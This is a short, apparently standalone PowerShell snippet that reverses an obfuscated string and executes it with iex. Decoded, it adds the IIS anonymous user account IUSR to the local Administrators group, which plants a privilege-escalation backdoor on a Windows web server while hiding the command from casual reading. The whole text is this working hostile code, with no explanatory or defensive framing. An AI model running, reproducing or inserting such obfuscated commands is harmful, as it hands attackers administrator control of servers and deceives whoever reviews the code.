$t = 'RSUI rebmeM- srotartsinimdA puorG- rebmeMpuorGlacoL-ddA'.ToCharArray()
[array]::Reverse($t)
iex (-join $t)
